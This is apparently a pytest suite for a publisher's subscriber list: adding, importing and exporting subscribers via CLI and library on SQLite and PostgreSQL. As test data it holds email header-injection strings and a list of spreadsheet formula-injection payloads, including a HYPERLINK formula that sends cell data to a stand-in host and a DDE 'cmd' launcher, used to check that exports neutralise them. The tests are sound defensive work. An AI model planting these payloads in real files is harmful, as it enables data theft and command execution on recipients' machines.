"""Subscribers: the real CLI in a subprocess, and the library, on both engines: a real SQLite state file and
a real PostgreSQL database (the `state_url` fixture of tests/conftest.py).

Identity is the lower-cased address; nobody who left is subscribed again by an import; invalid CSV rows
are reported (with their line) and skipped; `active()` streams in batches; processes adding or importing
the same addresses at the same moment each get them once.
"""

from __future__ import annotations

import csv
import io
import json
import threading
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from publisher.deliver.subscribers import DuplicateSubscriber, Subscriber, SubscriberError, Subscribers
from publisher.state.location import locate
from publisher.state.schema import subscribers as subscribers_table
from publisher.store import open_store
from tests.conftest import Site, run_cli
from tests.pgserver import PgServer

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)


class StateSite(Site):
    """A site whose paths.state is `state`: an SQLite file path or a PostgreSQL URL."""

    def __init__(self, root: Path, state: str) -> None:
        super().__init__(root)
        self.configure(f'[paths]\nstate = "{state}"')
        self.location = locate(state, root, {}, "the test")


@pytest.fixture
def site(tmp_path: Path, state_url: str) -> StateSite:
    return StateSite(tmp_path / "site", state_url)


@pytest.fixture
def other(tmp_path: Path, state_url: str, request: pytest.FixtureRequest) -> StateSite:
    """A second site with a state of its own, on the same engine as `site`."""
    if "://" not in state_url:
        return StateSite(tmp_path / "other", str(tmp_path / "other.sqlite"))
    server: PgServer = request.getfixturevalue("pg_server")
    return StateSite(tmp_path / "other", server.new_database())


def cli(site: StateSite, *args: str) -> Any:
    return run_cli("subscribers", *args, cwd=site.root)


def query(site: StateSite, statement: sa.Select[Any]) -> list[tuple[Any, ...]]:
    """Rows of `statement`, straight from the state database (with its own engine); [] when the state or its
    subscribers table does not exist yet."""
    location = site.location
    if location.path is not None and not location.path.exists():
        return []
    engine = sa.create_engine(location.url, poolclass=sa.pool.NullPool)
    try:
        with engine.connect() as conn:
            if not sa.inspect(conn).has_table("subscribers"):
                return []
            return [tuple(row) for row in conn.execute(statement)]
    finally:
        engine.dispose()


def rows(site: StateSite) -> list[tuple[Any, ...]]:
    """(email, address, name, status, bounces) straight from the state database, by email."""
    t = subscribers_table.c
    return query(site, sa.select(t.email, t.address, t.name, t.status, t.bounces).order_by(t.email))


def one_line_error(result: Any, code: int) -> str:
    assert result.returncode == code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: ")
    return str(line)


def write_csv(site: StateSite, text: str | bytes, name: str = "people.csv") -> Path:
    path = site.root / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")
    return path


# the command line


def test_add_list_remove_and_forget(site: StateSite) -> None:
    added = cli(site, "add", "Bob@Example.COM", "--name", "Bob Builder")
    assert added.returncode == 0, added.stderr
    assert added.stdout.strip() == "added Bob@example.com"

    again = cli(site, "add", "bob@example.com", "--name", "Someone Else")
    line = one_line_error(again, 1)
    assert "Bob@example.com is already subscribed" in line
    assert rows(site) == [("bob@example.com", "Bob@example.com", "Bob Builder", "active", 0)]

    listed = cli(site, "list")
    assert listed.returncode == 0
    table = listed.stdout.splitlines()
    assert table[0].split() == ["EMAIL", "NAME", "STATUS", "BOUNCES"]
    assert table[1].split() == ["Bob@example.com", "Bob", "Builder", "active", "0"]
    assert "1 active" in table[-1]

    removed = cli(site, "remove", "BOB@EXAMPLE.com")
    assert removed.returncode == 0 and removed.stdout.strip() == "unsubscribed Bob@example.com"
    assert rows(site) == [("bob@example.com", "Bob@example.com", "Bob Builder", "unsubscribed", 0)]
    assert "already unsubscribed" in cli(site, "remove", "bob@example.com").stdout
    assert cli(site, "list", "--status", "active").stdout.strip() == "no active subscribers"

    back = cli(site, "add", "bob@EXAMPLE.com")  # the operator's explicit add subscribes them again
    assert back.returncode == 0 and "again (was unsubscribed)" in back.stdout
    assert rows(site) == [("bob@example.com", "bob@example.com", "Bob Builder", "active", 0)]

    forgot = cli(site, "remove", "Bob@Example.com", "--forget")
    assert forgot.returncode == 0 and "forgot bob@example.com" in forgot.stdout
    assert rows(site) == []
    assert cli(site, "list").stdout.strip() == "no subscribers"
    line = one_line_error(cli(site, "remove", "bob@example.com"), 2)
    assert "no subscriber 'bob@example.com'" in line


@pytest.mark.parametrize("address", ["bob smith@example.com", "no-at-sign", "", "a@b.c\r\nBcc: x@y.z",
                                     "Bob <bob@example.com>", "bob@localhost"])
def test_an_invalid_address_on_add_is_a_one_line_usage_error(site: StateSite, address: str) -> None:
    line = one_line_error(cli(site, "add", address), 2)
    assert "valid email address" in line or "empty" in line
    assert "Bcc" not in line or "\\r\\n" in line, "the value is shown escaped, on the same line"
    assert rows(site) == []


def test_import_reports_good_duplicate_and_invalid_rows(site: StateSite) -> None:
    assert cli(site, "add", "Known@Example.org").returncode == 0
    text = ("\ufeffEmail, Name ,extra\r\n"
            "alice@example.org,Alice,x\r\n"
            "\r\n"
            "BOB@Example.COM,Bob\r\n"                  # good (lower-cased identity)
            "known@example.org,Already There,y\r\n"     # duplicate of the database
            "bob@example.com,Bob Again\r\n"             # duplicate inside the file, another case
            "no-at-sign.example.org,Nobody\r\n"         # invalid: no @
            "carl smith@example.org,Carl\r\n"           # invalid: a space
            ",Empty Address\r\n"                        # invalid: empty
            '"a@b.c\r\nBcc: x@y.z",Eve\r\n'             # invalid: header injection (a quoted CR/LF)
            "  dora@example.net  ,  Dora   Explorer \r\n"  # good: spaces around are tolerated
            "\r\n\r\n")
    result = cli(site, "import", str(write_csv(site, text)))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout.splitlines() == [
        "3 added, 2 duplicates, 4 invalid",
        "line 7: 'no-at-sign.example.org': An email address must have an @-sign",
        "line 8: 'carl smith@example.org': The email address contains invalid characters before the @-sign: SPACE",
        "line 9: '': empty address",
        "line 10: 'a@b.c\\r\\nBcc: x@y.z': The part after the @-sign contains invalid characters: "
        "':', '@', SPACE, U+000A, U+000D",
    ]
    assert rows(site) == [
        ("alice@example.org", "alice@example.org", "Alice", "active", 0),
        ("bob@example.com", "BOB@example.com", "Bob", "active", 0),
        ("dora@example.net", "dora@example.net", "Dora Explorer", "active", 0),
        ("known@example.org", "Known@example.org", "", "active", 0),
    ]
    t = subscribers_table.c
    assert query(site, sa.select(sa.func.count()).where(
        sa.or_(sa.func.lower(t.address).like("%bcc%"), sa.func.lower(t.email).like("%y.z%")))) == [(0,)]


def test_import_never_subscribes_again_someone_who_left(site: StateSite) -> None:
    for address in ("gone@example.org", "bouncy@example.org", "stays@example.org"):
        assert cli(site, "add", address).returncode == 0
    assert cli(site, "remove", "Gone@Example.org").returncode == 0
    with open_store(site.location) as store:
        Subscribers(store.conn).mark_bounce(bounced_id(store.conn, "bouncy@example.org"), NOW, 1)
    path = write_csv(site, "email,name\nGONE@example.org,Gone\nbouncy@example.org,B\nstays@example.org,S\n"
                           "new@example.org,New\n")
    result = cli(site, "import", str(path))
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "1 added, 3 duplicates, 0 invalid"
    assert lines[1].startswith("2 of the duplicates unsubscribed, bounced")
    statuses = {email: status for email, _a, _n, status, _b in rows(site)}
    assert statuses == {"gone@example.org": "unsubscribed", "bouncy@example.org": "bounced",
                        "stays@example.org": "active", "new@example.org": "active"}


def bounced_id(conn: sa.Connection, email: str) -> str:
    found = Subscribers(conn).get(email)
    assert found is not None
    return found.id


def test_import_tolerates_semicolons_and_rejects_a_file_without_an_email_header(site: StateSite) -> None:
    good = cli(site, "import", str(write_csv(site, "name;email\nAnn;ann@example.org\n", "semi.csv")))
    assert good.returncode == 0 and good.stdout.splitlines() == ["1 added, 0 duplicates, 0 invalid"]
    assert rows(site)[0][:3] == ("ann@example.org", "ann@example.org", "Ann")

    headless = cli(site, "import", str(write_csv(site, "zed@example.org,Zed\n", "headless.csv")))
    assert "has no 'email' column" in one_line_error(headless, 2)
    assert "no such file" in one_line_error(cli(site, "import", str(site.root / "missing.csv")), 2)
    assert "is empty" in one_line_error(cli(site, "import", str(write_csv(site, "", "empty.csv"))), 2)
    assert [r[0] for r in rows(site)] == ["ann@example.org"]


def test_a_row_that_is_not_utf8_is_reported_and_the_rest_imported(site: StateSite) -> None:
    site.configure("[email]\nsmtputf8 = true")  # a non-ASCII local part needs it
    data = "email,name\nj\u00fcrgen@example.org,J\u00fcrgen\n".encode() + b"latin@example.org,J\xfcrgen\n"
    result = cli(site, "import", str(write_csv(site, data)))
    assert result.returncode == 1
    assert result.stdout.splitlines()[0] == "1 added, 0 duplicates, 1 invalid"
    assert result.stdout.splitlines()[1].startswith("line 3: 'latin@example.org': name: not UTF-8")
    assert [r[:3] for r in rows(site)] == [("j\u00fcrgen@example.org", "j\u00fcrgen@example.org", "J\u00fcrgen")]


def test_export_round_trip(site: StateSite, other: StateSite) -> None:
    people = [("Ann@Example.org", "Ann, the First"), ("bob@example.com", 'Bob "Bobby" B'),
              ("chlo\u00e9@example.fr", "Chlo\u00e9"), ("dan@example.net", "")]
    site.configure("[email]\nsmtputf8 = true")  # for chlo\u00e9@
    buffer = io.StringIO()
    csv.writer(buffer).writerows([("email", "name"), *people])
    assert cli(site, "import", str(write_csv(site, buffer.getvalue()))).returncode == 0
    assert cli(site, "remove", "dan@example.net").returncode == 0

    exported = cli(site, "export")
    assert exported.returncode == 0, exported.stderr
    table = list(csv.reader(io.StringIO(exported.stdout)))
    assert table[0] == ["email", "name", "status", "created"]
    assert [r[:3] for r in table[1:]] == [["Ann@example.org", "Ann, the First", "active"],
                                          ["bob@example.com", 'Bob "Bobby" B', "active"],
                                          ["chlo\u00e9@example.fr", "Chlo\u00e9", "active"],
                                          ["dan@example.net", "", "unsubscribed"]]
    assert all(datetime.fromisoformat(r[3]).tzinfo is not None for r in table[1:])
    only = cli(site, "export", "--status", "unsubscribed").stdout
    assert [r[0] for r in csv.reader(io.StringIO(only))] == ["email", "dan@example.net"]

    other.configure("[email]\nsmtputf8 = true")
    path = other.root / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8", newline="")
    imported = cli(other, "import", str(path))
    assert imported.returncode == 0 and imported.stdout.startswith("4 added, 0 duplicates, 0 invalid")
    assert [r[:3] for r in rows(other)] == [r[:3] for r in rows(site)]
    again = cli(other, "export").stdout
    assert [r[:2] for r in csv.reader(io.StringIO(again))] == [r[:2] for r in table]


def test_list_status_and_json(site: StateSite) -> None:
    for address in ("a@example.org", "b@example.org", "c@example.org"):
        assert cli(site, "add", address, "--name", address[0].upper()).returncode == 0
    assert cli(site, "remove", "b@example.org").returncode == 0
    active = cli(site, "list", "--status", "active")
    assert [line.split()[0] for line in active.stdout.splitlines()[1:-1]] == ["a@example.org", "c@example.org"]
    assert active.stdout.splitlines()[-1] == "2 shown of 3: 0 pending, 2 active, 1 unsubscribed, 0 bounced"
    gone = cli(site, "list", "--status", "unsubscribed", "--json")
    (record,) = [json.loads(line) for line in gone.stdout.splitlines()]
    assert record["email"] == "b@example.org" and record["status"] == "unsubscribed" and len(record["id"]) == 32
    bad = cli(site, "list", "--status", "gone")
    assert bad.returncode == 2 and "Traceback" not in bad.stderr


# the library, on the real SQLite file


def test_active_streams_in_batches_in_id_order(site: StateSite) -> None:
    total, every_fifth = 2500, 500
    with open_store(site.location) as store:
        store.conn.execute(subscribers_table.insert(), [
            {"id": uuid.uuid4().hex, "email": f"r{n:05}@example.org", "address": f"r{n:05}@example.org",
             "name": f"R {n}", "status": "unsubscribed" if n % 5 == 0 else "active", "bounces": 0,
             "created": NOW.isoformat(), "changed": NOW.isoformat()} for n in range(total)])
    expected = total - every_fifth
    with open_store(site.location) as store:
        queries: list[str] = []

        def count(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
            if statement.lstrip().upper().startswith("SELECT"):
                queries.append(statement)

        sa.event.listen(store.conn, "before_cursor_execute", count)
        people = Subscribers(store.conn)
        stream = people.active(batch=300)
        first = next(stream)
        assert len(queries) == 1 and "LIMIT" in queries[0].upper(), "one batch, not the whole table"
        seen = [first]
        for n, subscriber in enumerate(stream, 1):
            seen.append(subscriber)
            if n == 700:  # a bounce and a commit in the middle must not disturb the stream
                people.mark_bounce(subscriber.id, NOW, 1)
                store.checkpoint()
        sa.event.remove(store.conn, "before_cursor_execute", count)
    assert len(seen) == expected
    assert [s.id for s in seen] == sorted(s.id for s in seen)
    assert len({s.id for s in seen}) == expected
    assert all(s.status == "active" for s in seen)
    batches = [q for q in queries if "LIMIT" in q.upper()]
    assert len(batches) == -(-expected // 300), "one query per batch of 300"
    assert [r[3] for r in rows(site)].count("bounced") == 1


def test_add_identity_and_reactivation(site: StateSite) -> None:
    with open_store(site.location) as store:
        people = Subscribers(store.conn)
        bob = people.add("Bob@Example.COM", "Bob\r\nBcc: evil@example.org", NOW)
        assert bob == Subscriber(bob.id, "bob@example.com", "Bob@example.com", "Bob Bcc: evil@example.org",
                                 "active", 0)
        assert len(bob.id) == 32 and people.get("BOB@example.com") == bob
        with pytest.raises(DuplicateSubscriber):
            people.add("bob@example.com", "", NOW)
        people.remove("bob@example.com", NOW)
        with pytest.raises(DuplicateSubscriber, match="unsubscribed"):
            people.add("bob@example.com", "", NOW)
        back = people.add("bob@example.com", "", NOW + timedelta(days=1), reactivate=True)
        assert (back.id, back.status, back.name) == (bob.id, "active", bob.name), "the id is stable"
        with pytest.raises(SubscriberError) as invalid:
            people.add("a@b.c\r\nBcc: x@y.z", "", NOW)
        assert invalid.value.exit_code == 2 and "\n" not in str(invalid.value)
        with pytest.raises(SubscriberError, match="unknown status"):
            people.list("gone")


def test_bounces_and_unsubscribe_by_id(site: StateSite) -> None:
    with open_store(site.location) as store:
        people = Subscribers(store.conn)
        ann = people.add("ann@example.org", "Ann", NOW)
        first = people.mark_bounce(ann.id, NOW, 2)
        assert first is not None and (first.status, first.bounces) == ("active", 1)
        second = people.mark_bounce(ann.id, NOW, 2)
        assert second is not None and (second.status, second.bounces) == ("bounced", 2)
        assert [s.email for s in people.active()] == []
        back = people.add("ann@example.org", "", NOW, reactivate=True)
        assert (back.status, back.bounces) == ("active", 0)

        gone = people.unsubscribe_id(ann.id, NOW)
        assert gone is not None and gone.status == "unsubscribed"
        assert people.unsubscribe_id(ann.id, NOW) == gone, "idempotent"
        after = people.mark_bounce(ann.id, NOW, 1)
        assert after is not None and after.status == "unsubscribed", "a bounce does not undo an unsubscribe"
        assert people.unsubscribe_id("0" * 32, NOW) is None
        assert people.mark_bounce("0" * 32, NOW, 1) is None
        assert people.counts() == {"pending": 0, "active": 0, "unsubscribed": 1, "bounced": 0}
    changed = query(site, sa.select(subscribers_table.c.created, subscribers_table.c.changed))
    assert changed == [(NOW.isoformat(), NOW.isoformat())]


FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(A1)",
            "-1+2", "'=already quoted"]


def test_export_neutralises_formulas_and_import_reads_them_back(site: StateSite, other: StateSite) -> None:
    people = [(f"f{n}@example.org", name) for n, name in enumerate(FORMULAS)]
    people += [("=cmd|'/Ccalc'!A0@example.org", "Formula Address"), ("plain@example.org", "Ann O'Neil, Jr.")]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([("email", "name"), *people])
    imported = cli(site, "import", str(write_csv(site, buffer.getvalue())))
    assert imported.stdout.startswith(f"{len(people)} added, 0 duplicates, 0 invalid"), imported.stdout

    exported = cli(site, "export")
    assert exported.returncode == 0, exported.stderr
    table = list(csv.reader(io.StringIO(exported.stdout)))[1:]
    cells = [cell for row in table for cell in row[:2]]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    by_email = {row[0]: row[1] for row in table}
    assert by_email["f0@example.org"] == "'" + FORMULAS[0] and by_email["f4@example.org"] == "'-1+2"
    # an apostrophe before a formula reads as an export's escape, so that name was imported as "=already quoted"
    assert by_email["f5@example.org"] == "'=already quoted"
    assert by_email["'=cmd|'/Ccalc'!A0@example.org"] == "Formula Address"
    assert by_email["plain@example.org"] == "Ann O'Neil, Jr.", "an ordinary name is left as it is"

    path = other.root / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8", newline="")
    assert cli(other, "import", str(path)).returncode == 0
    assert [r[:3] for r in rows(other)] == [r[:3] for r in rows(site)], "import undoes the export's apostrophes"
    assert sorted(r[2] for r in rows(other)) == sorted(name.removeprefix("'") for _, name in people)


def test_an_idn_address_stored_in_unicode_by_an_older_version_is_one_subscriber(site: StateSite) -> None:
    """An older version kept the domain in Unicode (j@bücher.example); today's identity has it in IDNA form
    (j@xn--bcher-kva.example): add, get, import and the CLI all find the old row instead of making a second."""
    with open_store(site.location) as store:
        store.conn.execute(subscribers_table.insert().values(
            id=uuid.uuid4().hex, email="j@b\u00fccher.example", address="j@b\u00fccher.example", name="Old",
            status="unsubscribed", bounces=0, created=NOW.isoformat(), changed=NOW.isoformat()))
    with open_store(site.location) as store:
        people = Subscribers(store.conn)
        for spelling in ("J@xn--bcher-kva.example", "j@B\u00dcCHER.example"):
            found = people.get(spelling)
            assert found is not None and (found.name, found.status) == ("Old", "unsubscribed"), spelling
        with pytest.raises(DuplicateSubscriber, match="unsubscribed"):
            people.add("j@xn--bcher-kva.example", "New", NOW)
    path = write_csv(site, "email,name\nj@xn--bcher-kva.example,New\nJ@b\u00fccher.example,New\n"
                           "k@b\u00fccher.example,K\n")
    imported = cli(site, "import", str(path))
    assert imported.returncode == 0, imported.stderr
    assert imported.stdout.splitlines()[0] == "1 added, 2 duplicates, 0 invalid"
    assert [(r[0], r[3]) for r in rows(site)] == [("j@b\u00fccher.example", "unsubscribed"),
                                                  ("k@xn--bcher-kva.example", "active")]
    back = cli(site, "add", "j@xn--bcher-kva.example")
    assert back.returncode == 0 and "again (was unsubscribed)" in back.stdout, back.stdout + back.stderr
    assert [r[3] for r in rows(site)] == ["active", "active"] and len(rows(site)) == 2


def in_thread(work: Callable[[], Any]) -> tuple[threading.Thread, list[Any]]:
    """Run `work` in a thread; its result (or exception) lands in the list."""
    result: list[Any] = []

    def run() -> None:
        try:
            result.append(work())
        except Exception as e:  # reported by the caller
            result.append(e)

    thread = threading.Thread(target=run)
    thread.start()
    return thread, result


def test_two_processes_adding_and_importing_the_same_addresses_at_once_get_each_once(site: StateSite) -> None:
    """The first transaction adds and imports but has not committed when the second does the same: the second
    waits on the first's rows, then finds them (a unique violation undoes its insert alone: no error, no
    second row, and its report counts them as duplicates)."""
    first_csv = io.StringIO("email\n" + "".join(f"r{n}@example.org\n" for n in range(0, 30)), newline="")
    second_csv = io.StringIO("email\n" + "".join(f"r{n}@example.org\n" for n in range(20, 40)), newline="")
    with open_store(site.location):
        pass  # the schema, made once
    with open_store(site.location) as first:
        Subscribers(first.conn).add("ann@example.org", "First", NOW)
        report = Subscribers(first.conn).import_stream(first_csv, NOW)
        assert (report.added, report.duplicates) == (30, 0)

        def second() -> tuple[Any, Any]:
            with open_store(site.location) as store:
                people = Subscribers(store.conn)
                try:
                    people.add("Ann@Example.org", "Second", NOW)
                    added: Any = "added"
                except DuplicateSubscriber as e:
                    added = e
                return added, people.import_stream(second_csv, NOW)

        thread, result = in_thread(second)
        thread.join(1.0)
        assert thread.is_alive(), "the second waits for the first's uncommitted rows"
    thread.join(60)
    ((added, second_report),) = result
    assert isinstance(added, DuplicateSubscriber) and "already subscribed" in str(added), added
    assert (second_report.added, second_report.duplicates, second_report.invalid) == (10, 10, [])
    emails = [r[0] for r in rows(site)]
    assert len(emails) == len(set(emails)) == 41
    assert [r[2] for r in rows(site) if r[0] == "ann@example.org"] == ["First"]
